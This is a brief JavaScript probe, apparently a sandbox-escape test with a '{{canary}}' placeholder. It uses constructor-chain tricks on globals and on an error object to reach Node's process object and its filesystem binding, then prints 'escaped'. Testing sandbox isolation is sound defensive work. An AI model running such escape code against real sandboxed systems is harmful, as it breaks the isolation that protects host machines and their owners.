const ways = [() => this.constructor, () => globalThis.constructor, () => console.log.constructor, () => setTimeout.constructor];
for (const way of ways) {
  const outside = way().constructor("return typeof process === 'undefined' ? null : process")();
  if (outside) console.log(outside.binding("fs") && "escaped {{canary}}");
}
import("node:fs").catch((error) => {
  const made = error.constructor.constructor("return process")();
  console.log("escaped", made.pid);
});
